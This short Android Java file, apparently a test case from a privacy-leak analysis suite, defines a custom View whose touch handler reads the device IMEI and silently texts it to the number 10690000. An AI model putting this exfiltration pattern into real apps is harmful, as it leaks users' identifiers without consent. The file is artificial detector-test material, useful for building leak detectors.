package cn.privlens.suite.view_not_in_layout_touched;

import android.content.Context;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;
import android.util.AttributeSet;
import android.view.MotionEvent;
import android.view.View;

public class Pad extends View {
    public Pad(Context context, AttributeSet set) { super(context, set); }
    @Override
    public boolean onTouchEvent(MotionEvent event) {
        SmsManager.getDefault().sendTextMessage("10690000", null, ((TelephonyManager) getContext().getSystemService(Context.TELEPHONY_SERVICE)).getDeviceId(), null, null);
        return true;
    }
}
